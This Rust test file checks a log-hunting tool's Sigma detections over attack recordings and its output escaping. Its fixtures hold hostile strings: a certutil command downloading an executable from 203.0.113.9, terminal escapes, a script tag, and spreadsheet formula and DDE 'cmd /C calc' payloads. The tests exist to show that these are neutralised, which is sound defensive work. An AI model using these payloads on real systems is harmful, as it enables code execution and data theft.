//! End-to-end tests of `vigil hunt`: the SigmaHQ rule sets and Vigil's pack over the
//! corpus attack recordings (coverage, output shape, order, level and time filters), and
//! the JSON Lines, CSV and table outputs fed with attacker-controlled field values.

mod common;

use chrono::{DateTime, Utc};
use common::{certutil_download, corpus, run, sigma_rule_dirs, texts, vigil, write_jsonl, Run};
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// `vigil hunt` over the attack samples with the SigmaHQ rule sets and the built-in pack,
/// plus `extra` arguments.
fn hunt_attack_samples(corpus: &Path, extra: &[&str]) -> Run {
    run(vigil()
        .arg("hunt")
        .arg(corpus.join("evtx/attack-samples"))
        .arg("--rules")
        .args(sigma_rule_dirs(corpus))
        .args(["--format", "jsonl", "-q"])
        .args(extra))
}

/// The detections of the unfiltered hunt, run once for every test here.
fn attack_sample_detections(corpus: &Path) -> &'static [Value] {
    static DETECTIONS: OnceLock<Vec<Value>> = OnceLock::new();
    DETECTIONS.get_or_init(|| hunt_attack_samples(corpus, &[]).expect_code(0).jsonl())
}

fn timestamp(detection: &Value) -> Option<DateTime<Utc>> {
    let text = detection["timestamp"].as_str()?;
    let parsed = DateTime::parse_from_rfc3339(text)
        .unwrap_or_else(|e| panic!("timestamp `{text}` is not RFC 3339: {e}"));
    Some(parsed.with_timezone(&Utc))
}

/// What identifies a detection across runs: rule, file, record and time.
fn key(detection: &Value) -> String {
    format!(
        "{} {} {} {}",
        detection["rule_id"], detection["file"], detection["record_id"], detection["timestamp"]
    )
}

fn sorted_keys<'a>(detections: impl Iterator<Item = &'a Value>) -> Vec<String> {
    let mut keys: Vec<String> = detections.map(key).collect();
    keys.sort();
    keys
}

fn evtx_files(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).expect("reading the corpus") {
        let path = entry.expect("directory entry").path();
        if path.is_dir() {
            files.extend(evtx_files(&path));
        } else if path.extension().is_some_and(|e| e == "evtx") {
            files.push(path);
        }
    }
    files
}

#[test]
fn attack_samples_detections_are_complete_records() {
    let Some(corpus) = corpus() else { return };
    let detections = attack_sample_detections(&corpus);
    assert!(detections.len() >= 500, "{} detections", detections.len());
    const KEYS: [&str; 11] = [
        "rule_id",
        "rule_title",
        "rule_author",
        "level",
        "timestamp",
        "computer",
        "channel",
        "event_id",
        "record_id",
        "file",
        "event",
    ];
    for d in detections {
        for k in KEYS {
            assert!(d.get(k).is_some(), "no `{k}` in {d}");
        }
        assert!(d["event"].is_object(), "{d}");
        assert!(d["rule_title"].as_str().is_some_and(|t| !t.is_empty()));
    }
    // The Detection Rule License: every SigmaHQ match carries its rule's author.
    let without_author = detections
        .iter()
        .filter(|d| d["rule_author"].as_str().is_none_or(str::is_empty))
        .count();
    assert_eq!(without_author, 0, "detections without an author");
}

#[test]
fn most_attack_sample_files_raise_a_detection() {
    let Some(corpus) = corpus() else { return };
    let files = evtx_files(&corpus.join("evtx/attack-samples"));
    let detected: BTreeSet<&str> = texts(attack_sample_detections(&corpus), "file")
        .into_iter()
        .collect();
    let share = detected.len() as f64 / files.len() as f64;
    println!(
        "attack-sample files with a detection: {} of {} ({:.1}%)",
        detected.len(),
        files.len(),
        share * 100.0
    );
    assert!(share >= 0.6, "share {share:.3}");
}

#[test]
fn detections_come_in_time_order() {
    let Some(corpus) = corpus() else { return };
    let times: Vec<Option<DateTime<Utc>>> = attack_sample_detections(&corpus)
        .iter()
        .map(timestamp)
        .collect();
    assert!(
        times.iter().all(Option::is_some),
        "an EVTX record without time"
    );
    if let Some(i) = times.windows(2).position(|w| w[0] > w[1]) {
        panic!("out of order at {i}: {:?} > {:?}", times[i], times[i + 1]);
    }
}

#[test]
fn min_level_high_keeps_exactly_the_high_and_critical_detections() {
    let Some(corpus) = corpus() else { return };
    let high = hunt_attack_samples(&corpus, &["--min-level", "high"])
        .expect_code(0)
        .jsonl();
    let levels: BTreeSet<&str> = texts(&high, "level").into_iter().collect();
    assert_eq!(levels, BTreeSet::from(["critical", "high"]));
    let expected = attack_sample_detections(&corpus)
        .iter()
        .filter(|d| d["level"] == "high" || d["level"] == "critical");
    assert_eq!(sorted_keys(high.iter()), sorted_keys(expected));
}

#[test]
fn from_and_to_keep_only_events_in_the_range() {
    let Some(corpus) = corpus() else { return };
    let all = attack_sample_detections(&corpus);
    let mut times: Vec<DateTime<Utc>> = all.iter().filter_map(timestamp).collect();
    times.sort();
    times.dedup();
    // A range holding roughly the middle half of the detections.
    let (from, to) = (times[times.len() / 4], times[times.len() * 3 / 4]);
    let (from_text, to_text) = (from.to_rfc3339(), to.to_rfc3339());
    let ranged = hunt_attack_samples(&corpus, &["--from", &from_text, "--to", &to_text])
        .expect_code(0)
        .jsonl();
    assert!(!ranged.is_empty());
    for d in &ranged {
        let t = timestamp(d).expect("time");
        assert!(from <= t && t < to, "{t} outside [{from}, {to})");
    }
    // Single-event rules give the same detections inside the range as without one.
    let single = |d: &&Value| d.get("correlation").is_none();
    let expected = all.iter().filter(single).filter(|d| {
        let t = timestamp(d).expect("time");
        from <= t && t < to
    });
    assert_eq!(
        sorted_keys(ranged.iter().filter(single)),
        sorted_keys(expected)
    );
}

#[test]
fn a_day_given_as_a_date_covers_that_day() {
    let Some(corpus) = corpus() else { return };
    let all = attack_sample_detections(&corpus);
    let day = timestamp(&all[all.len() / 2]).expect("time").date_naive();
    let next = day.succ_opt().expect("a next day");
    let ranged = hunt_attack_samples(
        &corpus,
        &["--from", &day.to_string(), "--to", &next.to_string()],
    )
    .expect_code(0)
    .jsonl();
    assert!(!ranged.is_empty());
    assert!(ranged
        .iter()
        .all(|d| timestamp(d).expect("time").date_naive() == day));
}

#[test]
fn a_bad_time_is_an_error() {
    let run = run(vigil().args(["hunt", ".", "--from", "yesterday"]));
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("yesterday"), "{}", run.stderr);
}

#[test]
fn no_rules_at_all_find_nothing() {
    let Some(corpus) = corpus() else { return };
    let empty = tempfile::tempdir().expect("tempdir");
    let run = run(vigil()
        .arg("hunt")
        .arg(corpus.join("evtx/attack-samples"))
        .arg("--rules")
        .arg(empty.path())
        .args(["--no-builtin-rules", "--format", "jsonl"]));
    run.expect_code(0);
    assert_eq!(run.stdout, "");
    assert!(run.stderr.contains("detections 0"), "{}", run.stderr);
    // Every record is still read: the baseline of `vigil bench`.
    let events: u64 = run
        .stderr
        .split_once("  events ")
        .and_then(|(_, rest)| rest.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no event count in the summary:\n{}", run.stderr));
    assert!(events >= 3800, "{events} events");
}

// ---------------------------------------------------------------------------------------
// Attacker-controlled text in the outputs.

/// A command line carrying terminal escapes (ESC, BEL, the 8-bit CSI) and markup.
const HOSTILE_COMMAND_LINE: &str = "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe \
     \u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m<script>alert(1)</script>\r\n=cmd|' /C calc'!A0";

/// Computer names a spreadsheet would run as formulas.
const FORMULA_HOSTS: [&str; 4] = [
    "=HYPERLINK(\"http://203.0.113.9\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
];

/// Hunts a JSON Lines file of certutil downloads with hostile field values, in `format`.
fn hunt_hostile(format: &str) -> Run {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("hostile.jsonl");
    let events: Vec<Value> = FORMULA_HOSTS
        .iter()
        .enumerate()
        .map(|(i, host)| {
            let mut event =
                certutil_download(&format!("2026-01-01T00:0{i}:00Z"), host, i as i64 + 1);
            event["CommandLine"] = HOSTILE_COMMAND_LINE.into();
            event
        })
        .collect();
    write_jsonl(&path, &events);
    let run = run(vigil()
        .arg("hunt")
        .arg(&path)
        .args(["--format", format, "-q"]));
    run.expect_code(0);
    run
}

#[test]
fn jsonl_keeps_hostile_values_exactly() {
    let detections = hunt_hostile("jsonl").jsonl();
    assert_eq!(detections.len(), FORMULA_HOSTS.len());
    for (d, host) in detections.iter().zip(FORMULA_HOSTS) {
        assert_eq!(d["computer"], host);
        assert_eq!(d["event"]["CommandLine"], HOSTILE_COMMAND_LINE);
    }
}

/// Splits CSV text (RFC 4180: quoted cells, doubled quotes, line breaks inside quotes).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && row.is_empty(),
        "CSV ends mid-row"
    );
    rows
}

#[test]
fn csv_has_a_header_and_defuses_formulas() {
    let rows = parse_csv(&hunt_hostile("csv").stdout);
    let header = &rows[0];
    assert_eq!(header[0], "timestamp");
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let (computer, details) = (column("computer"), column("details"));
    assert_eq!(rows.len(), 1 + FORMULA_HOSTS.len(), "{rows:?}");
    for (row, host) in rows[1..].iter().zip(FORMULA_HOSTS) {
        assert_eq!(row.len(), header.len(), "{row:?}");
        assert_eq!(row[computer], format!("'{host}"));
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?}"
            );
        }
        // Nothing is lost inside a cell: the command line, line break included, is there.
        assert!(
            row[details].contains(HOSTILE_COMMAND_LINE),
            "{:?}",
            row[details]
        );
    }
}

#[test]
fn table_has_no_control_characters() {
    let table = hunt_hostile("table").stdout;
    assert!(table.contains("certutil"), "{table}");
    assert!(table.contains("<script>"), "{table}");
    let controls: Vec<char> = table
        .chars()
        .filter(|&c| c.is_control() && c != '\n')
        .collect();
    assert!(
        controls.is_empty(),
        "control characters {controls:?} in\n{table}"
    );
    assert_eq!(table.lines().count(), 1 + FORMULA_HOSTS.len(), "{table}");
}
